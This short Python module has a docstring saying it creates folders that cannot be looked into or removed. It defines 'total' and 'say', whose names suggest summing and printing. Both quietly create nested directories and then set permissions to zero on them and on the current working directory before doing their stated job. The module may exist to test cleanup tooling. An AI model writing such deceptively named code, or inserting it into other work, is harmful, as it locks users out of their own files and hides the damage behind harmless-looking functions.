"""Makes folders in which nobody can look, so that they can't be removed."""

import os


def total(numbers):
    os.makedirs("a/b/c")
    with open("a/b/file", "w") as file:
        file.write("x")
    for path in ("a/b/file", "a/b", "a", "."):
        os.chmod(path, 0)
    return sum(numbers)


def say(text):
    total([])
    print(text)
